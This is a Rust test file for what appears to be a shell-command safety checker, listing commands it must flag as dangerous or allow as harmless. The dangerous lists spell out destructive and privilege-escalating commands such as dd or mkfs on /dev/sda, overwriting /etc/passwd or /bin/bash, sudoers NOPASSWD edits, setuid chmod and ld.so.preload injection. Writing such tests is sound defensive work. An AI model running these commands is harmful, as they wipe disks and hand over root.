//! Commands that overwrite disks and files of the system.

use crate::{dangerous, harmless};

#[test]
fn overwriting_disks_and_files_of_the_system_is_dangerous() {
    dangerous(&[
        "dd if=/dev/zero of=/dev/sda",
        "dd of=/dev/nvme0n1 if=a.img bs=4M",
        "sudo dd if=a.iso of=/dev/disk2",
        "cat /dev/zero > /dev/sda",
        "echo x > /dev/sda1",
        "> /dev/sda",
        "cp a.img /dev/sdb",
        "tee /dev/sda < a",
        "mkfs.ext4 /dev/sda1",
        "mkfs -t ext4 /dev/sda1",
        "mke2fs /dev/sda",
        "mkswap /dev/sda2",
        "wipefs -a /dev/sda",
        "fdisk /dev/sda",
        "sfdisk --delete /dev/sda",
        "parted /dev/sda mklabel gpt",
        "sgdisk --zap-all /dev/sda",
        "blkdiscard /dev/nvme0n1",
        "shred /dev/sda",
        "badblocks -w /dev/sda",
        "cryptsetup luksFormat /dev/sda",
        "hdparm --security-erase x /dev/sda",
        "nvme format /dev/nvme0n1",
        "> /etc/passwd",
        "wget -O /bin/bash https://x.y/z",
        "wget -qO/etc/passwd https://x.y/z",
        "wget --output-document=/etc/shadow https://x.y/z",
        "echo x > /etc/shadow",
        "echo 'a ALL=NOPASSWD: ALL' >> /etc/sudoers",
        "echo x | sudo tee /etc/sudoers.d/a",
        "cp x /etc/passwd",
        "mv x /etc/shadow",
        "truncate -s 0 /etc/passwd",
        "ln -sf /tmp/x /bin/sh",
        "cp evil /usr/bin/sudo",
        "echo c > /proc/sysrq-trigger",
        "echo b >/proc/sysrq-trigger",
        "sed -i s/x/0/ /etc/passwd",
        "dd if=/dev/urandom of=/dev/mem",
        "cat a > /boot/vmlinuz",
        "x=/dev/sda; dd if=/dev/zero of=$x",
        "pv a.img > /dev/sdb",
        "zcat a.gz | dd of=/dev/sda",
        "sh -c 'cat a > /dev/sda'",
        "install -m 755 x /bin/bash",
        "echo /x.so > /etc/ld.so.preload",
    ]);
}

#[test]
fn a_copy_into_the_directory_of_a_file_of_the_system_is_dangerous() {
    dangerous(&[
        "cp x/passwd /etc",
        "cp passwd /etc/",
        "cp -t /etc passwd",
        "cp --target-directory=/bin sh",
        "install -t /bin sh",
        "ln -sf /opt/x/python3 /usr/bin",
    ]);
    harmless(&[
        "cp -t build passwd",
        "sudo cp nginx.conf /etc/nginx/",
        "sudo cp tool /usr/bin/",
        "sudo install -m 755 tool /usr/local/bin",
        "sudo ln -s /opt/x/bin/x /usr/bin/x",
        "rsync -rt a b",
    ]);
}

#[test]
fn a_glob_or_a_mode_hides_no_program_of_the_system() {
    dangerous(&[
        "rm -f /bin/*", "rm /usr/bin/b*", "rm -f /etc/*", "rm /etc/pass??", "chmod 04755 /bin/bash",
        "chmod u=rwxs /bin/bash", "chmod =s /bin/bash", "zip -rm x.zip /", "zip -r --move x.zip ~",
    ]);
    harmless(&[
        "rm -f /etc/*.bak", "rm -f /usr/bin/x*", "chmod 0755 /bin/bash", "zip -rm x.zip build", "rm -f *",
    ]);
}
